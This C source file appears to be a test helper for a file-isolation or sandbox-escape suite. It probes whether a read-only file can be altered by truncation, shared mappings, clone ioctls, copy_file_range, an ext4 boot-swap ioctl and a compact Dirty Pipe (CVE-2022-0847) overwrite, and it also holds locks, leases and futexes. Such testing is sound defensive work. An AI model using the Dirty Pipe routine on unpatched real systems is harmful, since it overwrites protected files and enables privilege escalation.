// SPDX-License-Identifier: GPL-2.0
/*
 * template change FILE: everything that could write into a file of the template
 * without copying it first; FILE is opened read-only.
 * template lock|lease FILE SECONDS: holds one.
 * template wait FILE SECONDS, template wake FILE: a futex in a shared mapping.
 */
#include <linux/fs.h>
#include <linux/futex.h>
#include <sys/file.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <time.h>

#include "escape.h"

#define EXT4_IOC_SWAP_BOOT	_IO('f', 17)

/* CVE-2022-0847: a page of the file in a pipe, then more is written to the pipe. */
static void dirty_pipe(int fd)
{
	char buf[4096] = "";
	loff_t off = 0;
	int p[2];

	need(!pipe(p), "pipe");
	for (int i = 0; i < 16; i++)
		need(write(p[1], buf, sizeof(buf)) == sizeof(buf), "pipe");
	for (int i = 0; i < 16; i++)
		need(read(p[0], buf, sizeof(buf)) == sizeof(buf), "pipe");
	if (splice(fd, &off, p[1], NULL, 1, 0) == 1)
		need(write(p[1], "OVERWRITTEN", 11) == 11, "pipe");
}

static int change(const char *file)
{
	int fd = open(file, O_RDONLY), other;
	struct file_clone_range range = { 0 };
	char path[64];
	void *map;

	need(fd >= 0, file);
	outcome("write", write(fd, "x", 1));
	outcome("truncate", ftruncate(fd, 0));
	outcome("fallocate", fallocate(fd, 0, 0, 4096));
	map = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	outcome("shared mapping", map == MAP_FAILED ? -1 : 0);
	map = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
	need(map != MAP_FAILED, "mmap");
	outcome("mprotect", mprotect(map, 4096, PROT_READ | PROT_WRITE));
	outcome("remove pages", madvise(map, 4096, MADV_REMOVE));
	other = open("/tmp/other", O_CREAT | O_RDWR | O_TRUNC, 0600);
	need(other >= 0 && write(other, "OVERWRITTEN", 11) == 11, "/tmp/other");
	outcome("clone", ioctl(fd, FICLONE, other));
	range.src_fd = other;
	outcome("clone range", ioctl(fd, FICLONERANGE, &range));
	outcome("copy range", copy_file_range(other, &(loff_t){ 0 }, fd, &(loff_t){ 0 }, 8, 0));
	outcome("swap with boot loader", ioctl(fd, EXT4_IOC_SWAP_BOOT));
	dirty_pipe(fd);
	/* These copy it first; the link may be refused to users. */
	outcome("touch", futimens(fd, NULL));
	outcome("mode", fchmod(fd, 0777));
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	outcome("link", linkat(AT_FDCWD, path, AT_FDCWD, "/tmp/hard", AT_SYMLINK_FOLLOW));
	other = open(path, O_WRONLY);
	outcome("again for writing", other);
	if (other >= 0)
		need(pwrite(other, "OVERWRITTEN", 11, 0) == 11, "write");
	other = open("/tmp/hard", O_WRONLY);
	if (other >= 0)
		need(pwrite(other, "OVERWRITTEN", 11, 0) == 11, "write");
	unlink("/tmp/hard");
	unlink("/tmp/other");
	return 0;
}

static int hold(const char *verb, const char *file, int seconds)
{
	int fd = open(file, O_RDONLY), ret;

	need(fd >= 0, file);
	ret = !strcmp(verb, "lock") ? flock(fd, LOCK_EX | LOCK_NB) : fcntl(fd, F_SETLEASE, F_RDLCK);
	outcome(verb, ret);
	sleep(seconds);
	return 0;
}

static int futex(const char *verb, const char *file, int seconds)
{
	struct timespec limit = { .tv_sec = seconds };
	int fd = open(file, O_RDONLY);
	unsigned int *word;

	need(fd >= 0, file);
	word = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
	need(word != MAP_FAILED, "mmap");
	if (!strcmp(verb, "wake")) {
		printf("woken: %ld\n", syscall(SYS_futex, word, FUTEX_WAKE, 100, NULL, NULL, 0));
		return 0;
	}
	return outcome("wait", syscall(SYS_futex, word, FUTEX_WAIT, *word, &limit, NULL, 0));
}

int main(int argc, char **argv)
{
	need(argc > 2, "usage");
	if (!strcmp(argv[1], "change"))
		return change(argv[2]);
	if (*argv[1] == 'l')
		return hold(argv[1], argv[2], argc > 3 ? atoi(argv[3]) : 0);
	return futex(argv[1], argv[2], argc > 3 ? atoi(argv[3]) : 1);
}
